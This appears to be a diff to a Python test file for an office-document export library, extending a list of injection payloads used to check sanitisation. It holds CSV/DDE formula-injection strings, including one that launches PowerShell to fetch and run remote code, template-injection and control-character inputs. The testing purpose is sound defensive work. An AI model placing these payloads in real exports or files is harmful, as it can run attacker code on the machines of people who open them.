@@ -11,6 +11,7 @@ from papers_read_back import PAPERS, parts
 
 from exports import Dossier, Kpi
 from exports.office_text import harmless
+from tests.payloads import OTHERS
 
 FORMULAS = [
     "=1+1", "=cmd|' /c calc'!A0", "=cmd|'/C powershell IEX(wget 0.0.0.0)'!A0", "+1+1", "+cmd|' /c calc'!A0", "-2+3",
@@ -25,7 +26,7 @@ MARKUP = [
     "&P&N&G", "_x0041_", "${7*7}",
 ]  # fmt: skip
 CONTROLS = ["甲\x00乙", "甲\x07乙", "甲\x1b[31m乙", "\u202e甲乙", "甲\u200b乙", "\ufeff甲", "甲\u2066乙\u2069", "\x0b甲", "甲\uffff乙"]  # fmt: skip
-PAYLOADS = [*FORMULAS, *LINKS, *MARKUP, *CONTROLS]
+PAYLOADS = [*FORMULAS, *LINKS, *MARKUP, *CONTROLS, *(text for text in OTHERS.values() if "\n" not in text)]
 NAMED = [f"{i:02d}项{payload}" for i, payload in enumerate(PAYLOADS)]
 LIVE = {
     "slides": re.compile(r"<a:hlinkClick|<a:hlinkHover|TargetMode=.External|<f>|<f "),
